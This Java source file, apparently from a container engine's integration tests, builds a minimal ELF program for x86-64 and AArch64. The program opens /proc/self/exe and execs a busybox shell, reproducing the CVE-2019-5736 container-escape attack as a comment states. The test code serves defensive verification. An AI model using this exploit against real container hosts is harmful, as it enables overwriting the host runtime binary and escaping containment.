package dev.slipway.it;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/*
 * The attack of CVE-2019-5736: an engine that is made to execute itself is loaded by the image's
 * loader. This one opens the engine's binary by /proc/self/exe and turns into a shell, which
 * inherits it open and can try to write to it when the engine runs no more.
 */
/** A loader of programs that is none: an ELF program of some twenty machine instructions. */
final class SelfLoader {
  private static final int BASE = 0x10000;
  private static final int CODE = 120;
  private static final int PATH = 0x100;
  private static final int SHELL = 0x110;
  private static final int ARGUMENTS = 0x120;
  private static final int WORDS = 0x140;
  private static final int SCRIPT = 0x150;

  /* open(PATH, O_RDONLY); execve(SHELL, ARGUMENTS, none); exit(1) */
  private static final String X86_64 =
      "bf0001010031f6b8020000000f05bf10010100be2001010031d2b83b0000000f05bf01000000b83c0000000f05";

  private static final int[] AARCH64 = {
    0x92800C60, 0xD2802001, 0xF2A00021, 0xD2800002, 0xD2800708, 0xD4000001, 0xD2802200, 0xF2A00020,
    0xD2802401, 0xF2A00021, 0xD2800002, 0xD2801BA8, 0xD4000001, 0xD2800020, 0xD2800BA8, 0xD4000001
  };

  private SelfLoader() {}

  static byte[] program(boolean aarch64, String script) {
    var text = script.getBytes(StandardCharsets.UTF_8);
    int size = SCRIPT + text.length + 1;
    var elf = ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    header(elf, aarch64 ? 183 : 62, size);
    elf.position(CODE);
    if (aarch64) {
      for (int instruction : AARCH64) {
        elf.putInt(instruction);
      }
    } else {
      elf.put(HexFormat.of().parseHex(X86_64));
    }
    put(elf, PATH, "/proc/self/exe");
    put(elf, SHELL, "/bin/busybox");
    elf.position(ARGUMENTS);
    elf.putLong(BASE + WORDS).putLong(BASE + WORDS + 4).putLong(BASE + SCRIPT).putLong(0);
    put(elf, WORDS, "sh");
    put(elf, WORDS + 4, "-c");
    return elf.put(SCRIPT, text).array();
  }

  /** A fixed program of one segment, readable and executable. */
  private static void header(ByteBuffer elf, int machine, int size) {
    elf.put(HexFormat.of().parseHex("7f454c46020101000000000000000000"));
    elf.putShort((short) 2).putShort((short) machine).putInt(1);
    elf.putLong(BASE + CODE).putLong(64).putLong(0).putInt(0);
    elf.putShort((short) 64).putShort((short) 56).putShort((short) 1);
    elf.position(64);
    elf.putInt(1).putInt(5).putLong(0).putLong(BASE).putLong(BASE);
    elf.putLong(size).putLong(size).putLong(0x1000);
  }

  private static void put(ByteBuffer elf, int at, String text) {
    elf.put(at, text.getBytes(StandardCharsets.US_ASCII));
  }
}
